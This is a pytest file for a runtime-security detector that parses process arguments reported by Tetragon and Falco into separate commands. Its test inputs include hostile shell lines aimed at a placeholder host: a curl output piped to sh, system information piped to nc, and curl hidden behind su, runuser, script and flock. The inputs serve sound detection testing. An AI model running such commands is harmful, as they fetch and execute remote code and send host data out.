"""Sensors give the arguments as one string, quoted again by Tetragon and plainly joined by Falco."""

from __future__ import annotations

import pytest

from detectors.commands import read
from events import Process


@pytest.mark.parametrize(
    ("arguments", "expected"),
    [
        ("", []),
        ("-s http://h", ["-s", "http://h"]),
        ('-H "Accept: text/html" ""', ["-H", "Accept: text/html", ""]),
        ('-d "a "b" c" http://h', ["-d", 'a "b" c', "http://h"]),
        ('"it\'s a file" x', ["it's a file", "x"]),
        ('"print("a b")" x', ['print("a b")', "x"]),
        ('"open to the end', ["open to the end"]),
        ('a"b c"d', ['a"b', 'c"d']),
    ],
)
def test_words_of_a_program(arguments: str, expected: list[str]) -> None:
    (command,) = read(Process(binary="/usr/bin/curl", arguments=arguments))
    assert list(command.arguments) == expected


@pytest.mark.parametrize(
    ("arguments", "expected"),
    [
        ('-c "id; curl http://h | sh"', ["id", "curl http://h", "sh"]),
        ('-c "echo "a b" > /tmp/x; id"', ["echo a b", "id"]),
        ('-c "echo " x""', ["echo  x"]),
        ('-c "test -z "" && id"', ["test -z ", "id"]),
        ('-c "python3 -c "import os; print(\'x\')" && id" sh', ["python3 -c import os; print('x')", "id"]),
        ('-c "echo $0" one', ["echo one"]),
        ("-c id", ["id"]),
        ("-c id; uname -a | nc h 80", ["id", "uname -a", "nc h 80"]),
        ('-c exec /app/run --name "x y"', ["run --name x y"]),
        ("-o pipefail -c ps|wc", ["ps", "wc"]),
        ("-lc", ["sh -lc"]),
        ("script.sh -c x", ["sh script.sh -c x"]),
    ],
)
def test_text_of_a_shell(arguments: str, expected: list[str]) -> None:
    commands = read(Process(binary="/bin/sh", arguments=arguments))
    assert [" ".join([command.name, *command.arguments]) for command in commands] == expected


@pytest.mark.parametrize(
    ("program", "arguments"),
    [
        ("su", "-c curl http://h"),
        ("su", "nobody -s /bin/sh -c curl http://h"),
        ("runuser", "-l nobody -c curl http://h"),
        ("script", "-qc curl http://h"),
        ("flock", "/tmp/l -c curl http://h"),
        ("su", '-c "curl http://h" nobody'),
    ],
)
def test_text_whose_borders_a_sensor_lost_goes_to_the_end_of_the_line(program: str, arguments: str) -> None:
    last = read(Process(binary=f"/usr/bin/{program}", arguments=arguments))[-1]
    assert (last.name, last.arguments) == ("curl", ("http://h",))
